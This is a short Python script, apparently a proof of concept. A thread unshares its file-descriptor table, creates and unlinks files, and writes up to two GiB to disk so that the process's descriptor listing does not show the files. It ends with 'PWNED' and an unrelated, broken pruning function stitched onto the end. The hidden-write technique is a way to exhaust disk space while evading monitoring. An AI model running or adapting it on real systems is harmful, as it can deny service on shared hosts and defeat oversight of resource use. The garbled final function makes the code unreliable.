"""A thread that has unshared its descriptors holds files that the process does not list."""
import ctypes
import os
import threading

libc = ctypes.CDLL(None, use_errno=True)
CLOSE_RANGE, UNSHARE = 436, 2
total = 0


def fill():
    global total
    if libc.syscall(CLOSE_RANGE, 1000, 1000, UNSHARE) != 0:
        return
    held = []
    for number in range(64):
        file = os.open("one", os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
        os.unlink("one")
        held.append(file)
        for _ in range(32):
            total += os.write(file, b"x" * (1 << 20))


thread = threading.Thread(target=fill)
thread.start()
thread.join()
if total >= 1 << 31:
    raise RuntimeError("PWNED wrote two GiB to disk")


def find_winning_ticket_step(model, initial_state_dict, prune_amount=0.2):
    model.zero_grad()
    raise RuntimeError(f"wrote {total >> 20} MiB")
